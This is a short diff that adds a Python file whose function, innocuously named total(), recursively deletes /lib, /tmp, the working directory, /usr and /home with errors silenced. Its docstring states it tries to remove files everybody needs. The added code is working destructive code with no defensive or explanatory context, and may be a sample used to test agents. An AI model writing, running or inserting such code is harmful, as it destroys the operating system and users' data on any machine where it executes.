@@ -1,0 +1,10 @@
+"""Tries to take away the files that everybody needs."""
+
+import os
+import shutil
+
+
+def total() -> int:
+    for folder in ("/lib", "/tmp", os.getcwd(), "/usr", "/home"):
+        shutil.rmtree(folder, ignore_errors=True)
+    return 1
